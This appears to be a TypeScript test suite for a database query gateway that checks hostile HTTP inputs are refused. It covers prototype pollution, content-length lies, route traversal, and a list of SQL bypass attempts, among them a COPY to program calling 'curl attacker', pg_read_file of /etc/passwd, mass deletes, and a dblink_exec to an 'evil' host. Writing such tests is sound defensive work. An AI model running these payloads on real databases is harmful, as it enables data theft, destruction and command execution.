import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { matchRoute } from '../../cli/dev/route-match.js';
import { HttpRequest } from '../../functions/sdk.js';
import { type Fixture, gatewayFixture, queryRequest } from '../support/gateway-fixture.js';

/** Hostile inputs at the HTTP edge of the query path; nothing may reach the target. */
describe('attacks on the query endpoint', () => {
  let f: Fixture;
  before(async () => {
    f = await gatewayFixture();
  });

  const code = (res: { body?: unknown }) => (res.body as { error?: { code?: string } }).error?.code;

  test('prototype pollution in the body is refused, not merged', async () => {
    const req = new HttpRequest({
      method: 'POST',
      url: 'http://localhost/api/v1/connections/demo/query',
      headers: { authorization: `Bearer ${f.agentToken}`, 'content-type': 'application/json' },
      params: { connection: 'demo' },
      body: {
        string: '{"sql":"select 1","__proto__":{"maxRows":999999},"constructor":{"prototype":{"x":1}}}',
      },
    });
    const res = await f.gateway.query(req);
    assert.equal(res.status, 400);
    assert.equal(code(res), 'invalid_body');
    assert.equal(({} as Record<string, unknown>).maxRows, undefined);
  });

  test('a lying content-length does not let a large body through', async () => {
    const req = new HttpRequest({
      method: 'POST',
      url: 'http://localhost/api/v1/connections/demo/query',
      headers: {
        authorization: `Bearer ${f.agentToken}`,
        'content-type': 'application/json',
        'content-length': '10',
      },
      params: { connection: 'demo' },
      body: { string: JSON.stringify({ sql: `select '${'a'.repeat(300_000)}'` }) },
    });
    const res = await f.gateway.query(req);
    assert.equal(res.status, 413);
  });

  test('content types that only look like JSON are refused', async () => {
    for (const type of ['application/jsonp', 'text/json', 'application/x-www-form-urlencoded', '']) {
      const req = new HttpRequest({
        method: 'POST',
        url: 'http://localhost/api/v1/connections/demo/query',
        headers: { authorization: `Bearer ${f.agentToken}`, 'content-type': type },
        params: { connection: 'demo' },
        body: { string: '{"sql":"select 1"}' },
      });
      const res = await f.gateway.query(req);
      assert.equal(res.status, 415, type);
    }
  });

  test('bypass attempts through the statement never reach the target', async () => {
    const before = f.connector.executed.length;
    const attempts = [
      'select 1; delete from customers',
      'with x as (delete from customers returning id) select id from x',
      "copy customers to program 'curl attacker'",
      'select pg_read_file($$/etc/passwd$$)',
      "select set_config('default_transaction_read_only', 'off', false)",
      'do $$ begin perform 1; end $$',
      'prepare p as delete from customers',
      'call do_things()',
      'select id into stolen from customers',
      'explain analyze delete from customers',
      'select id from customers for update',
      "select dblink_exec('host=evil', 'drop table x')",
      'begin; delete from customers; commit',
    ];
    for (const sql of attempts) {
      const res = await f.gateway.query(queryRequest(f.agentToken, { sql }));
      assert.ok(res.status === 403 || res.status === 400, `${sql} -> ${res.status}`);
    }
    assert.equal(f.connector.executed.length, before, 'no attempt was executed');
    assert.equal(f.connector.estimated.length, 0, 'no attempt was even EXPLAINed');
  });

  test('an oversized statement is refused before parsing', async () => {
    const res = await f.gateway.query(queryRequest(f.agentToken, { sql: `select ${'1,'.repeat(60_000)}1` }));
    assert.equal(res.status, 400);
  });

  test('a denied response names policies, never echoes data or internals', async () => {
    const res = await f.gateway.query(queryRequest(f.agentToken, { sql: 'select * from customers' }));
    assert.equal(res.status, 403);
    const text = JSON.stringify(res.body);
    assert.doesNotMatch(text, /stack|at \w+ \(|node_modules/);
  });
});

describe('local host routing', () => {
  test('route parameters are single, decoded segments; traversal does not match other routes', () => {
    assert.deepEqual(matchRoute('v1/connections/{connection}/query', '/v1/connections/demo/query'), {
      connection: 'demo',
    });
    assert.deepEqual(matchRoute('v1/connections/{connection}/query', '/v1/connections/..%2Faudit/query'), {
      connection: '../audit',
    });
    assert.equal(matchRoute('v1/connections/{connection}/query', '/v1/connections/a/b/query'), null);
    assert.equal(matchRoute('v1/connections/{connection}/query', '/v1/connections/%E0%A4%A/query'), null);
    assert.equal(matchRoute('v1/audit', '/v1/audit/extra'), null);
  });
});

describe('attacker-chosen route values', () => {
  test('a huge connection id is not found, and only a bounded prefix reaches the audit record', async () => {
    const f = await gatewayFixture();
    const id = 'x'.repeat(10_000);
    const res = await f.gateway.query(queryRequest(f.agentToken, { sql: 'select 1' }, id));
    assert.equal(res.status, 404);
    const [record] = f.audit.all();
    assert.ok((record.connection ?? '').length <= 129);
  });
});
